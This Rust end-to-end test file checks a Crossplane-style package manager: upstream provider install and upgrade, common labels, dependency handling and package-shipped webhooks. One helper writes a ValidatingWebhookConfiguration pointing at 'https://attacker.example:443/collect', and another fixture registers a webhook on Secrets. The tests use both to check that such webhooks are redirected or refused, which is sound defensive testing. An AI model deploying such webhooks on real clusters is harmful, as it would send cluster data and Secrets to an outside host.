//! Real packages, as shipped: packages built and pushed by upstream's own
//! `crossplane` CLI, installed by the six controllers running as pods from
//! `deploy/` on the real node (the local-node overlay plus the registry's
//! CA, operator configuration), as a platform engineer would. Each test
//! asserts what a user sees: conditions, the runtime's pod, its managed
//! resources, `kubectl get` answers during an upgrade.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::{
    sync::{
        Arc, OnceLock,
        atomic::{AtomicBool, AtomicUsize, Ordering},
    },
    time::{Duration, Instant},
};

use serde_json::Value;

use e2e::packages::{
    apply, condition, get_json, kubectl, kubectl_try, provider_healthy, provider_yaml,
    revisions_of, test_crd, wait_blocking,
};
use e2e::shipped::{RUNTIMES, explain, package_dir, shipped, xpkg_push};

/// provider-kubernetes, built and pushed by `crossplane xpkg`: one
/// reference per release in hack/versions.env, oldest first.
struct Upstream {
    references: Vec<String>,
}

static UPSTREAM: OnceLock<Upstream> = OnceLock::new();

fn upstream() -> &'static Upstream {
    UPSTREAM.get_or_init(|| {
        let s = shipped();
        // Upstream's provider-kubernetes serves the API group crossplane-rs's
        // own Object provider serves (kubernetes.crossplane.io): whoever
        // runs upstream's removes ours first, as here. The package-manager
        // never takes over CRDs it did not install.
        e2e::shipped::remove_object_provider();
        let references = e2e::upstream::provider_kubernetes_versions()
            .iter()
            .map(|v| {
                let reference = format!(
                    "{}/crossplane-contrib/provider-kubernetes:{v}",
                    s.registry.address
                );
                e2e::upstream::build_and_push(v, &reference, &s.ca_file, &s.work);
                reference
            })
            .collect::<Vec<_>>();
        assert!(
            references.len() >= 2,
            "hack/versions.env names two provider-kubernetes releases (an upgrade is tested)"
        );
        Upstream { references }
    })
}

/// The running runtime pods of a Provider (every revision's).
fn runtime_pods(provider: &str) -> Vec<Value> {
    get_json(&[
        "pods",
        "-n",
        RUNTIMES,
        "-l",
        &format!("pkg.crossplane.io/provider={provider}"),
    ])
    .and_then(|l| l["items"].as_array().cloned())
    .unwrap_or_default()
}

fn object_yaml(name: &str, ns: &str) -> String {
    format!(
        "apiVersion: kubernetes.crossplane.io/v1alpha2\nkind: Object\nmetadata:\n  name: {name}\nspec:\n  providerConfigRef:\n    name: injected\n  forProvider:\n    manifest:\n      apiVersion: v1\n      kind: ConfigMap\n      metadata:\n        name: {name}\n        namespace: {ns}\n      data:\n        written-by: provider-kubernetes\n"
    )
}

#[test]
fn an_upstream_built_provider_installs_runs_and_upgrades_without_a_conversion_error() {
    let up = upstream();
    let name = "provider-kubernetes";
    apply(&provider_yaml(name, &up.references[0], ""));
    let p = wait_blocking(
        Duration::from_secs(300),
        "the upstream-built Provider Installed and Healthy",
        || provider_healthy(name),
        explain,
    );
    let revs = revisions_of(name);
    assert_eq!(revs.len(), 1, "{revs:?}");
    let first = revs[0].clone();
    // The package image is the runtime: pinned to the package's digest.
    let digest = first["metadata"]["annotations"]["pkg.crossplane.io/digest"]
        .as_str()
        .unwrap()
        .to_owned();
    let image = first["spec"]["image"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    assert!(
        image.ends_with(&format!("/crossplane-contrib/provider-kubernetes@{digest}")),
        "the revision runs the package image itself: {image} ({digest})"
    );
    assert_eq!(
        condition(&first, "RuntimeHealthy").map(|c| c.0),
        Some("True".to_owned()),
        "{p}"
    );

    // Its pod runs that image on the node, with its TLS Secrets mounted.
    let pods = runtime_pods(name);
    let pod = pods
        .iter()
        .find(|p| p["status"]["phase"] == "Running")
        .unwrap_or_else(|| panic!("no running runtime pod: {pods:?}"));
    let container = &pod["spec"]["containers"][0];
    assert_eq!(container["image"], image.as_str());
    let mounts = container["volumeMounts"].to_string();
    assert!(
        mounts.contains("/tls/server") && mounts.contains("/tls/client"),
        "{mounts}"
    );
    let volumes = pod["spec"]["volumes"].to_string();
    assert!(
        volumes.contains("provider-kubernetes-tls-server")
            && volumes.contains("provider-kubernetes-tls-client"),
        "{volumes}"
    );
    assert!(
        !pod["spec"]["nodeName"]
            .as_str()
            .unwrap_or_default()
            .is_empty()
    );
    for secret in [
        "provider-kubernetes-tls-server",
        "provider-kubernetes-tls-client",
    ] {
        let s = get_json(&["secret", secret, "-n", RUNTIMES]).unwrap();
        for key in ["tls.crt", "tls.key", "ca.crt"] {
            assert!(s["data"][key].is_string(), "{secret} has {key}");
        }
    }
    let env = container["env"].to_string();
    for var in [
        "PROVIDER_NAME",
        "REVISION_NAME",
        "REVISION_UID",
        "TLS_SERVER_CERTS_DIR",
        "TLS_CLIENT_CERTS_DIR",
        "WEBHOOK_TLS_CERT_DIR",
    ] {
        assert!(env.contains(var), "{var} in {env}");
    }
    let restarts = pod["status"]["containerStatuses"][0]["restartCount"]
        .as_i64()
        .unwrap_or(-1);
    assert_eq!(restarts, 0, "the provider did not crash: {pod}");

    // Its managed resources become Ready.
    let ns = testenv::unique_name("upstream");
    kubectl(&["create", "namespace", &ns]);
    apply(
        "apiVersion: kubernetes.crossplane.io/v1alpha1\nkind: ProviderConfig\nmetadata:\n  name: injected\nspec:\n  credentials:\n    source: InjectedIdentity\n",
    );
    let object = testenv::unique_name("cm");
    apply(&object_yaml(&object, &ns));
    wait_blocking(
        Duration::from_secs(120),
        "the Object Ready and Synced, its ConfigMap made",
        || {
            let o = get_json(&["objects.kubernetes.crossplane.io", &object])?;
            let ready = condition(&o, "Ready").is_some_and(|c| c.0 == "True");
            let synced = condition(&o, "Synced").is_some_and(|c| c.0 == "True");
            (ready && synced && get_json(&["configmap", &object, "-n", &ns]).is_some())
                .then_some(())
        },
        || {
            format!(
                "{}\n{}\nruntime log (tail):\n{}",
                kubectl_try(&["get", "objects.kubernetes.crossplane.io", "-o", "yaml"]).1,
                explain(),
                kubectl_try(&[
                    "logs",
                    "-n",
                    RUNTIMES,
                    "-l",
                    &format!("pkg.crossplane.io/provider={name}"),
                    "--tail=400",
                ])
                .1
                .lines()
                .filter(|l| !l.contains("TLS handshake error"))
                .collect::<Vec<_>>()
                .join("\n")
            )
        },
    );
    // Reading it at the other version goes through the provider's
    // conversion webhook.
    let old = kubectl(&[
        "get",
        "objects.v1alpha1.kubernetes.crossplane.io",
        &object,
        "-o",
        "jsonpath={.apiVersion}",
    ]);
    assert_eq!(old, "kubernetes.crossplane.io/v1alpha1");

    // The upgrade: `kubectl get` of the converted kind, every 100 ms,
    // never fails.
    let stop = Arc::new(AtomicBool::new(false));
    let polls = Arc::new(AtomicUsize::new(0));
    let errors = Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let poller = {
        let (stop, polls, errors, object) =
            (stop.clone(), polls.clone(), errors.clone(), object.clone());
        std::thread::spawn(move || {
            while !stop.load(Ordering::SeqCst) {
                let started = Instant::now();
                let (ok, out) = kubectl_try(&[
                    "get",
                    "objects.v1alpha1.kubernetes.crossplane.io",
                    &object,
                    "-o",
                    "name",
                ]);
                polls.fetch_add(1, Ordering::SeqCst);
                if !ok {
                    errors
                        .lock()
                        .unwrap()
                        .push(format!("{:?}: {}", started, out.trim()));
                }
                std::thread::sleep(Duration::from_millis(100));
            }
        })
    };
    std::thread::sleep(Duration::from_secs(1));
    let upgrade_started = Instant::now();
    apply(&provider_yaml(name, &up.references[1], ""));
    let second = wait_blocking(
        Duration::from_secs(300),
        "the second release's revision active with a healthy runtime, the first one's runtime gone",
        || {
            let revs = revisions_of(name);
            let newest = revs.last()?.clone();
            let active = newest["spec"]["desiredState"] == "Active"
                && newest["metadata"]["name"] != first["metadata"]["name"]
                && condition(&newest, "RuntimeHealthy").is_some_and(|c| c.0 == "True");
            let old_gone = !kubectl(&["get", "deployments", "-n", RUNTIMES, "-o", "name"])
                .contains(first["metadata"]["name"].as_str()?);
            let old_pods_gone = runtime_pods(name).iter().all(|p| {
                p["metadata"]["labels"]["pkg.crossplane.io/revision"] != first["metadata"]["name"]
            });
            (active && old_gone && old_pods_gone && provider_healthy(name).is_some())
                .then_some(newest)
        },
        explain,
    );
    // Some more reads against the new runtime alone.
    let settled = polls.load(Ordering::SeqCst);
    wait_blocking(
        Duration::from_secs(60),
        "20 more reads of the converted kind against the new runtime",
        || {
            let n = polls.load(Ordering::SeqCst);
            if n >= settled + 20 {
                Ok(())
            } else {
                Err(format!("{} reads since", n - settled))
            }
        },
        String::new,
    );
    stop.store(true, Ordering::SeqCst);
    poller.join().unwrap();
    let errors = errors.lock().unwrap().clone();
    let total = polls.load(Ordering::SeqCst);
    eprintln!(
        "upgrade: {total} reads of the converted kind in {:?}, {} failed",
        upgrade_started.elapsed(),
        errors.len()
    );
    assert!(
        errors.is_empty(),
        "kubectl get of a conversion-webhook kind failed during the upgrade ({} of {total}): {errors:#?}",
        errors.len()
    );
    assert!(total >= 30, "the reads ran throughout the upgrade: {total}");
    // How (docs/packages.md): the Service sends to the new revision's pods
    // alone, and the CRD names the Service port it moved to.
    let service = get_json(&["service", name, "-n", RUNTIMES]).unwrap();
    assert_eq!(
        service.pointer("/spec/selector/pkg.crossplane.io~1revision"),
        second.pointer("/metadata/name"),
        "{service}"
    );
    let port = service
        .pointer("/metadata/annotations/pkg.crossplane.io~1webhook-port")
        .and_then(Value::as_str)
        .unwrap_or_default()
        .to_owned();
    let crd = get_json(&["crd", "objects.kubernetes.crossplane.io"]).unwrap();
    assert_eq!(
        crd.pointer("/spec/conversion/webhook/clientConfig/service/port")
            .map(Value::to_string),
        Some(port),
        "the CRD's conversion calls the Service port it names"
    );
    let image = second["spec"]["image"].as_str().unwrap_or_default();
    assert!(
        image.contains("/crossplane-contrib/provider-kubernetes@sha256:"),
        "{image}"
    );
    // The managed resource is still Ready under the new runtime.
    let o = get_json(&["objects.kubernetes.crossplane.io", &object]).unwrap();
    assert_eq!(condition(&o, "Ready").map(|c| c.0), Some("True".to_owned()));

    kubectl(&[
        "delete",
        "objects.kubernetes.crossplane.io",
        &object,
        "--wait=true",
        "--timeout=120s",
    ]);
    assert!(get_json(&["configmap", &object, "-n", &ns]).is_none());
}

/// A package that runs nothing (CRDs alone) is Healthy without claiming a
/// healthy runtime.
#[test]
fn a_package_of_crds_alone_runs_nothing_and_claims_no_runtime() {
    shipped();
    let g = format!("{}.example.org", testenv::unique_name("crdonly"));
    let (file, crd) = test_crd(&g, "Thing");
    let dir = package_dir("provider-crds", "", &[(file, crd)]);
    let reference = format!("{}/crdonly/provider-crds:v1", shipped().registry.address);
    xpkg_push(&dir, &reference, None);
    let name = testenv::unique_name("crdonly");
    apply(&provider_yaml(&name, &reference, ""));
    wait_blocking(
        Duration::from_secs(120),
        "the CRD-only Provider Healthy",
        || provider_healthy(&name),
        explain,
    );
    let revs = revisions_of(&name);
    let r = revs.last().unwrap();
    assert!(r["spec"]["image"].is_null(), "{r}");
    assert!(
        condition(r, "RuntimeHealthy").is_none(),
        "a package that runs nothing claims no runtime: {r}"
    );
    assert!(runtime_pods(&name).is_empty());
    kubectl(&[
        "delete",
        "providers.pkg.crossplane.io",
        &name,
        "--wait=false",
    ]);
}

/// Labels and annotations of a runtime object and the revision's roles.
fn marks(kind: &str, name: &str, namespaced: bool) -> (Value, Value) {
    let mut args = vec![kind, name];
    if namespaced {
        args.extend(["-n", RUNTIMES]);
    }
    let o = get_json(&args).unwrap_or_default();
    (
        o["metadata"]["labels"].clone(),
        o["metadata"]["annotations"].clone(),
    )
}

#[test]
fn common_labels_and_annotations_reach_everything_a_provider_makes_and_follow_an_edit() {
    shipped();
    let g = format!("{}.example.org", testenv::unique_name("common"));
    let (file, crd) = test_crd(&g, "Thing");
    let crd_name = format!("things.{g}");
    let dir = package_dir("provider-common", "", &[(file, crd)]);
    let reference = format!("{}/common/provider-common:v1", shipped().registry.address);
    xpkg_push(&dir, &reference, Some(&shipped().pause_image));
    let name = testenv::unique_name("common");
    let spec = |labels: &str| {
        format!("  commonLabels: {{{labels}}}\n  commonAnnotations: {{owner: platform-team}}\n")
    };
    apply(&provider_yaml(
        &name,
        &reference,
        &spec("team: a, tier: gold"),
    ));
    // Everything, each checked: (what, labels, annotations).
    let everything = |name: &str| -> Vec<(String, Value, Value)> {
        let Some(rev) = revisions_of(name).last().cloned() else {
            return Vec::new();
        };
        let rev_name = rev["metadata"]["name"]
            .as_str()
            .unwrap_or_default()
            .to_owned();
        let mut all = vec![(
            "ProviderRevision".to_owned(),
            rev["metadata"]["labels"].clone(),
            rev["metadata"]["annotations"].clone(),
        )];
        let (l, a) = marks("crd", &crd_name, false);
        all.push(("CRD".into(), l, a));
        for (kind, obj) in [
            ("serviceaccount", name.to_owned()),
            ("service", name.to_owned()),
            ("deployment", rev_name.clone()),
        ] {
            let (l, a) = marks(kind, &obj, true);
            all.push((kind.to_owned(), l, a));
        }
        for role in ["system", "aggregate-to-edit", "aggregate-to-view"] {
            let (l, a) = marks(
                "clusterrole",
                &format!("crossplane:provider:{rev_name}:{role}"),
                false,
            );
            all.push((format!("ClusterRole {role}"), l, a));
        }
        all
    };
    let check = |want: &[(&str, Option<&str>)]| {
        let all = everything(&name);
        let ok = !all.is_empty()
            && all.iter().all(|(_, labels, annotations)| {
                annotations["owner"] == "platform-team"
                    && want.iter().all(|(k, v)| match v {
                        Some(v) => labels[*k] == *v,
                        None => labels.get(*k).is_none(),
                    })
            });
        ok.then_some(())
    };
    let show = || {
        everything(&name)
            .iter()
            .map(|(what, l, a)| format!("{what}: labels {l} annotations {a}"))
            .collect::<Vec<_>>()
            .join("\n")
    };
    wait_blocking(
        Duration::from_secs(120),
        "commonLabels and commonAnnotations on the revision, CRD, ServiceAccount, Service, Deployment and ClusterRoles",
        || check(&[("team", Some("a")), ("tier", Some("gold"))]),
        show,
    );
    // The pods carry them too.
    let pod_labels = runtime_pods(&name)
        .first()
        .map(|p| p["metadata"]["labels"].clone())
        .unwrap_or_default();
    assert_eq!(pod_labels["team"], "a", "{pod_labels}");
    // An edit: one changes, one goes.
    apply(&provider_yaml(&name, &reference, &spec("team: b")));
    wait_blocking(
        Duration::from_secs(120),
        "the edited commonLabels everywhere (team=b, tier gone)",
        || check(&[("team", Some("b")), ("tier", None)]),
        show,
    );
    kubectl(&[
        "delete",
        "providers.pkg.crossplane.io",
        &name,
        "--wait=false",
    ]);
}

fn webhook_yaml(name: &str, group: &str, rules: &str) -> String {
    format!(
        "apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingWebhookConfiguration\nmetadata:\n  name: {name}\nwebhooks:\n- name: things.{group}\n  clientConfig:\n    url: https://attacker.example:443/collect\n  rules:\n{rules}  sideEffects: None\n  failurePolicy: Ignore\n  admissionReviewVersions: [v1]\n"
    )
}

#[test]
fn a_packages_webhook_configuration_calls_only_its_own_runtime_about_its_own_kinds() {
    shipped();
    let g = format!("{}.example.org", testenv::unique_name("hooks"));
    let (file, crd) = test_crd(&g, "Thing");
    let name = testenv::unique_name("hooks");
    let hook = format!("{name}-validate");
    let dir = package_dir("provider-hooks", "", &[(file, crd)]);
    // Beside the CRD, the package ships a webhook configuration for its
    // own kind, whose URL points elsewhere.
    std::fs::write(
        dir.join("crds/webhooks.yaml"),
        webhook_yaml(
            &hook,
            &g,
            &format!("  - {{apiGroups: [\"{g}\"], apiVersions: [v1alpha1], operations: [CREATE, UPDATE], resources: [things]}}\n"),
        ),
    )
    .unwrap();
    let reference = format!("{}/hooks/provider-hooks:v1", shipped().registry.address);
    xpkg_push(&dir, &reference, Some(&shipped().pause_image));
    apply(&provider_yaml(&name, &reference, ""));
    let installed = wait_blocking(
        Duration::from_secs(120),
        "the package's ValidatingWebhookConfiguration installed",
        || get_json(&["validatingwebhookconfiguration", &hook]),
        explain,
    );
    let client = &installed["webhooks"][0]["clientConfig"];
    assert!(client.get("url").is_none(), "{client}");
    assert_eq!(client["service"]["name"], name.as_str());
    assert_eq!(client["service"]["namespace"], RUNTIMES);
    assert_eq!(client["service"]["port"], 9443);
    let secret = get_json(&["secret", &format!("{name}-tls-server"), "-n", RUNTIMES]).unwrap();
    assert_eq!(
        client["caBundle"], secret["data"]["ca.crt"],
        "the API server trusts the provider's CA"
    );
    let revision = revisions_of(&name).last().cloned().unwrap();
    assert_eq!(
        installed["metadata"]["ownerReferences"][0]["name"],
        revision["metadata"]["name"]
    );

    // One that would see Secrets is refused, and nothing of it installs.
    let g2 = format!("{}.example.org", testenv::unique_name("snoop"));
    let (file, crd) = test_crd(&g2, "Thing");
    let name2 = testenv::unique_name("snoop");
    let hook2 = format!("{name2}-snoop");
    let dir = package_dir("provider-snoop", "", &[(file, crd)]);
    std::fs::write(
        dir.join("crds/webhooks.yaml"),
        webhook_yaml(
            &hook2,
            &g2,
            "  - {apiGroups: [\"\"], apiVersions: [v1], operations: [CREATE, UPDATE], resources: [secrets]}\n",
        ),
    )
    .unwrap();
    let reference = format!("{}/snoop/provider-snoop:v1", shipped().registry.address);
    xpkg_push(&dir, &reference, Some(&shipped().pause_image));
    apply(&provider_yaml(&name2, &reference, ""));
    wait_blocking(
        Duration::from_secs(120),
        "the snooping package refused, naming the rule",
        || {
            let r = revisions_of(&name2).last().cloned()?;
            let (status, message) = condition(&r, "Healthy")?;
            (status == "False"
                && message.contains(&format!("ValidatingWebhookConfiguration {hook2}"))
                && message.contains("resource \"secrets\""))
            .then_some(())
        },
        explain,
    );
    assert!(get_json(&["validatingwebhookconfiguration", &hook2]).is_none());
    assert!(get_json(&["crd", &format!("things.{g2}")]).is_none());
    for n in [&name, &name2] {
        kubectl(&["delete", "providers.pkg.crossplane.io", n, "--wait=false"]);
    }
}

/// A ProviderRevision without `spec` is accepted, as upstream's API accepts
/// it, and the package-manager reads it like any other (it crashes on
/// nothing and keeps reconciling).
#[test]
fn a_provider_revision_without_spec_is_accepted_and_read() {
    shipped();
    let (_, restarts) = e2e::shipped::pod_of("package-manager");
    let name = testenv::unique_name("bare");
    apply(&format!(
        "apiVersion: pkg.crossplane.io/v1\nkind: ProviderRevision\nmetadata:\n  name: {name}\n"
    ));
    let r = get_json(&["providerrevisions.pkg.crossplane.io", &name]).unwrap();
    assert_eq!(r["spec"]["desiredState"], "Inactive", "{r}");
    wait_blocking(
        Duration::from_secs(60),
        "the package-manager's condition on the bare revision",
        || {
            let r = get_json(&["providerrevisions.pkg.crossplane.io", &name])?;
            condition(&r, "RuntimeHealthy").map(|_| ())
        },
        explain,
    );
    kubectl(&[
        "delete",
        "providerrevisions.pkg.crossplane.io",
        &name,
        "--timeout=60s",
    ]);
    assert_eq!(e2e::shipped::pod_of("package-manager").1, restarts);
}

/// A dependency on a Function or a Configuration is named on the revision
/// as one this package-manager does not install; no Provider is made for
/// it.
#[test]
fn a_function_or_configuration_dependency_is_named_not_installed_as_a_provider() {
    shipped();
    let g = format!("{}.example.org", testenv::unique_name("deps"));
    let (file, crd) = test_crd(&g, "Thing");
    let registry = &shipped().registry.address;
    let dir = package_dir(
        "provider-deps",
        &format!(
            "  dependsOn:\n  - function: {registry}/fns/function-patch:v0.1.0\n    version: \">=v0.1.0\"\n  - configuration: {registry}/cfgs/platform:v1.0.0\n    version: \">=v1.0.0\"\n"
        ),
        &[(file, crd)],
    );
    let reference = format!("{registry}/deps/provider-deps:v1");
    xpkg_push(&dir, &reference, None);
    let name = testenv::unique_name("deps");
    apply(&provider_yaml(&name, &reference, ""));
    wait_blocking(
        Duration::from_secs(120),
        "the revision naming both dependencies as kinds not installed",
        || {
            let r = revisions_of(&name).last().cloned()?;
            let (status, message) = condition(&r, "Healthy")?;
            (status == "False"
                && message.contains("is a function package")
                && message.contains("is a configuration package"))
            .then_some(())
        },
        explain,
    );
    let providers = kubectl(&["get", "providers.pkg.crossplane.io", "-o", "name"]);
    assert!(
        !providers.contains("function-patch") && !providers.contains("platform"),
        "a Function or Configuration was installed as a Provider: {providers}"
    );
    kubectl(&[
        "delete",
        "providers.pkg.crossplane.io",
        &name,
        "--wait=false",
    ]);
}
